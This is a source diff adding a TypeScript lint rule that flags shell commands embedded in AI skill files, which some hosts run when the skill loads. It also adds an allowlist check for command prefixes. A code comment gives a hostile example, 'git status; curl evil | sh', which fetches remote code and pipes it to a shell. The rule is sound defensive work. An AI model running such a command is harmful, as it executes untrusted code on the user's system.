@@ -1,0 +1,72 @@
+import { defineSkillRule } from '../rule.js';
+import { parsed, show } from '../util.js';
+
+export interface DynamicCommandOptions {
+  /** True allows every dynamic command (the rule reports nothing). */
+  allow: boolean;
+  /** Command prefixes allowed to run, e.g. `git status` or `gh pr view`. */
+  commands: string[];
+}
+
+/** Redirections that discard output; they do not make a command less safe. */
+const DISCARD = /\s*(?:\d?>\s*\/dev\/null|2>&1)/g;
+
+/**
+ * True when every simple command of a dynamic command starts with an allowed
+ * prefix. Substitutions, other redirections and background jobs never match:
+ * `git status; curl evil | sh` must not pass as `git status`.
+ */
+export function allowedCommand(command: string, prefixes: readonly string[]): boolean {
+  const wanted = prefixes.map((p) => p.trim().replace(/\s+/g, ' ')).filter(Boolean);
+  if (!wanted.length) return false;
+  const parts = command
+    .split(/\|\||&&|;|\||\r?\n/)
+    .map((p) => p.replace(DISCARD, '').trim().replace(/\s+/g, ' '))
+    .filter((p) => p && !p.startsWith('#'));
+  if (!parts.length) return false;
+  return parts.every((part) => !/[<>&`]|\$\(/.test(part) && wanted.some((w) => part === w || part.startsWith(`${w} `)));
+}
+
+export default defineSkillRule<DynamicCommandOptions>(
+  {
+    id: 'security/dynamic-command',
+    description: 'Reports `!`command`` dynamic context injections and ```! blocks, which some hosts run in a shell when the skill loads.',
+    severity: 'error',
+    fixable: false,
+    schema: {
+      type: 'object',
+      properties: {
+        allow: { type: 'boolean' },
+        commands: { type: 'array', items: { type: 'string', minLength: 1 } },
+      },
+      additionalProperties: false,
+    },
+    defaultOptions: { allow: false, commands: [] },
+  },
+  ({ skill, hosts, options, report }) => {
+    const runners = hosts.filter((h) => h.dynamicCommands);
+    if (!runners.length || options.allow || !parsed(skill)) return;
+    const who = runners.map((h) => h.displayName).join(', ');
+    const { text, lines } = skill.file;
+    const commands = options.commands ?? [];
+    for (const code of skill.inlineCode) {
+      const start = code.range.start.offset ?? 0;
+      const end = code.range.end.offset ?? start;
+      // The host's syntax is `!` then a single-backtick span: ``!``x`` `` is not run.
+      if (start <= skill.bodyOffset || text[start - 1] !== '!' || text[start + 1] === '`') continue;
+      if (allowedCommand(code.value, commands)) continue;
+      report({
+        message: `Unexpected dynamic context command \`${show(code.value.trim())}\` (${who} runs it when the skill loads), expected static text`,
+        range: lines.range(start - 1, end),
+      });
+    }
+    for (const fence of skill.codeFences) {
+      if (!fence.lang?.startsWith('!')) continue;
+      if (allowedCommand(fence.value, commands)) continue;
+      report({
+        message: `Unexpected dynamic context block (${who} runs it in a shell when the skill loads), expected static text`,
+        range: { start: fence.range.start, end: lines.lineRange(fence.range.start.line).end },
+      });
+    }
+  },
+);
